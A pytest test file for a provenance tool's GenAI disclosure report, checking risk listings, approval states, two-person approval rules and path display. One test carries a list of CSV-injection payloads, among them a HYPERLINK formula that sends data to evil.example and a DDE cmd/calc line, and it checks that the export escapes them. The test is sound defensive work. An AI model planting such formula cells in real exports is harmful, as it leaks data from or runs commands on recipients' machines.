"""`provenance report --disclosure`: every GenAI asset in the ledger with tool, risks, approval state."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import subprocess
import unicodedata
from pathlib import Path

import pytest

from provenance.cli import main
from provenance.config import load_config
from provenance.identify import sha256_file
from provenance.ledger import Ledger
from provenance.model import Declarations, Risk, Scope, Zone
from provenance.pipeline import Inspector
from provenance.report.disclosure import shown_path
from tests.gate.conftest import Show, ai_jpeg, ai_png, plain_png


def record(show: Show, *paths) -> None:
    config = show.config
    with Ledger.open(config.effective_ledger_url) as ledger, Inspector(config.reader_settings()) as insp:
        for p in paths:
            v = insp.inspect(p)
            if p.name == "face.png":  # as `provenance tag --talent-likeness` would have declared it
                v = dataclasses.replace(v, declarations=Declarations(tool="FaceGen", purpose="de-aging",
                                                                     risks=frozenset({Risk.TALENT_LIKENESS})))
            ledger.record_verdict(v, (0, 0, 0, 0, 0), config.zone_for(p))


def test_disclosure_lists_ai_assets_with_risks_and_verified_approval_state(
        show: Show, capsys: pytest.CaptureFixture[str]) -> None:
    final = show.root / "final"
    face = ai_png(final / "face.png", 3)
    matte = ai_jpeg(final / "matte.jpg")
    clean = plain_png(final / "clean.png")
    show.add_approver("Legal", {Scope.FINAL_DELIVERABLE, Scope.TALENT_LIKENESS})
    show.approve(matte, "Legal", {Scope.FINAL_DELIVERABLE}, ref="LEGAL-5")
    record(show, face, matte, clean)
    # The ledger keeps the approval too (as `provenance approve` does).
    with Ledger.open(show.config.effective_ledger_url) as ledger:
        envelope = json.loads(matte.with_name("matte.jpg.approval.json").read_text())["approvals"][0]
        ledger.record_approval(envelope, sha256_file(matte), "Legal", ["final-deliverable"], "LEGAL-5", None)

    capsys.readouterr()
    assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["schema"] == "provenance.disclosure/v1" and doc["count"] == 2
    by_name = {a["paths"][0].rsplit("/", 1)[-1]: a for a in doc["assets"]}
    assert set(by_name) == {"face.png", "matte.jpg"}
    assert by_name["face.png"]["risks"] == ["talent-likeness"] and by_name["face.png"]["tool"] == "FaceGen"
    assert by_name["face.png"]["state"] == "pending: final-deliverable, talent-likeness"
    assert by_name["matte.jpg"]["state"] == "approved" and by_name["matte.jpg"]["references"] == ["LEGAL-5"]
    assert doc["totals"]["by_risk"] == {"talent-likeness": 1}
    assert doc["totals"]["by_approval_state"] == {"pending": 1, "approved": 1}

    assert main(["report", "--disclosure", "--csv", "--config", str(show.config_file)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["state"] for r in rows} == {"approved", "pending: final-deliverable, talent-likeness"}

    # Revoking the approver turns "approved" back into "pending": state is verified, not recalled.
    show.revoke("Legal")
    assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert {a["state"] for a in doc["assets"]} == {"pending: final-deliverable",
                                                    "pending: final-deliverable, talent-likeness"}
    assert Zone.FINAL is show.config.zone_for(face)


def test_disclosure_counts_different_approvers_under_a_two_person_rule(
        show: Show, capsys: pytest.CaptureFixture[str]) -> None:
    two = '[approvals]\nrequired = { "final-deliverable" = 2 }\n'
    show.config_file.write_text(show.config_file.read_text().replace("[approvals]\n", two))
    matte = ai_jpeg(show.root / "final" / "matte.jpg")
    show.add_approver("Legal", {Scope.FINAL_DELIVERABLE})
    show.add_approver("Producer", {Scope.FINAL_DELIVERABLE})
    record(show, matte)

    def state_after(approver: str, ref: str) -> str:
        show.approve(matte, approver, {Scope.FINAL_DELIVERABLE}, ref=ref)
        envelope = json.loads(matte.with_name("matte.jpg.approval.json").read_text())["approvals"][-1]
        with Ledger.open(show.config.effective_ledger_url) as ledger:
            ledger.record_approval(envelope, sha256_file(matte), approver, ["final-deliverable"], ref, None)
        capsys.readouterr()
        assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) == 0
        [row] = json.loads(capsys.readouterr().out)["assets"]
        return str(row["state"])

    assert state_after("Legal", "LEGAL-1") == "pending: final-deliverable"
    assert state_after("Legal", "LEGAL-2") == "pending: final-deliverable"  # the same approver again
    assert state_after("Producer", "PROD-1") == "approved"


# Cells a spreadsheet would run as a formula (OWASP "CSV Injection"), full-width forms included.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1)", "+1+cmd|' /C calc'!A0",
           "-2+3", "\tTAB=1", "\rCR=1", "\uff1dHYPERLINK(\"x\")", "\uff20SUM(1)", "  =1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_disclosure_csv_never_writes_a_formula_cell_from_file_metadata(
        show: Show, capsys: pytest.CaptureFixture[str], text: str) -> None:
    # A real JPEG whose XMP (written by real ExifTool with our namespace) names the tool and
    # purpose: file metadata an artist controls ends up in the CSV a producer opens.
    from provenance.evidence._exiftool import CONFIG_FILE

    jpeg = ai_jpeg(show.root / "final" / "hostile.jpg")
    subprocess.run(["exiftool", "-config", str(CONFIG_FILE), "-q", "-overwrite_original",
                    f"-XMP-provenance:Tool={text}", f"-XMP-provenance:Purpose={text}", str(jpeg)], check=True)
    record(show, jpeg)
    capsys.readouterr()
    assert main(["report", "--disclosure", "--csv", "--config", str(show.config_file)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) == 0
    (raw,) = json.loads(capsys.readouterr().out)["assets"]
    assert len(rows) == 1
    row = rows[0]
    for value in row.values():
        first = unicodedata.normalize("NFKC", value.lstrip(" ")[:1])
        assert first not in ("=", "+", "-", "@", "\t", "\r"), (text, value)
    # Escaped with the leading quote OWASP recommends; the text itself is kept, not mangled.
    assert raw["tool"].lstrip(" \n")[:1] in "=+-@\t\r\uff1d\uff20", raw["tool"]  # hostile when read back
    assert row["tool"] == "'" + raw["tool"] and row["purpose"] == "'" + raw["purpose"]


def test_disclosure_counts_a_portable_approval_the_ledger_never_recorded(
        show: Show, capsys: pytest.CaptureFixture[str]) -> None:
    """The gate clears with an approval file that travels with the asset; the disclosure must
    say the same (it used to read only the ledger's records and said "pending")."""
    matte = ai_jpeg(show.root / "final" / "matte.jpg")
    show.add_approver("Legal", {Scope.FINAL_DELIVERABLE})
    show.approve(matte, "Legal", {Scope.FINAL_DELIVERABLE}, ref="LEGAL-9")  # beside the asset only
    record(show, matte)
    capsys.readouterr()
    assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) == 0
    [row] = json.loads(capsys.readouterr().out)["assets"]
    assert (row["state"], row["references"], row["approvers"]) == ("approved", ["LEGAL-9"], ["Legal"])
    assert main(["gate", "--config", str(show.config_file), str(matte)]) == 0  # the gate agrees


def test_paths_are_shown_relative_to_the_show_or_to_the_watched_root_holding_them(tmp_path: Path) -> None:
    show_dir, elsewhere = tmp_path / "show", tmp_path / "mnt" / "plates_vol"
    show_dir.mkdir()
    (show_dir / "provenance.toml").write_text(f'[[roots]]\npath = "."\n[[roots]]\npath = "{elsewhere}"\n')
    config = load_config(show_dir / "provenance.toml")
    assert shown_path(config, str(show_dir / "final" / "a.exr")) == "final/a.exr"
    assert shown_path(config, str(elsewhere / "sh010" / "p.1001.exr")) == "plates_vol/sh010/p.1001.exr"
    assert shown_path(config, "/srv/other/x.png") == "/srv/other/x.png"  # outside all: said in full
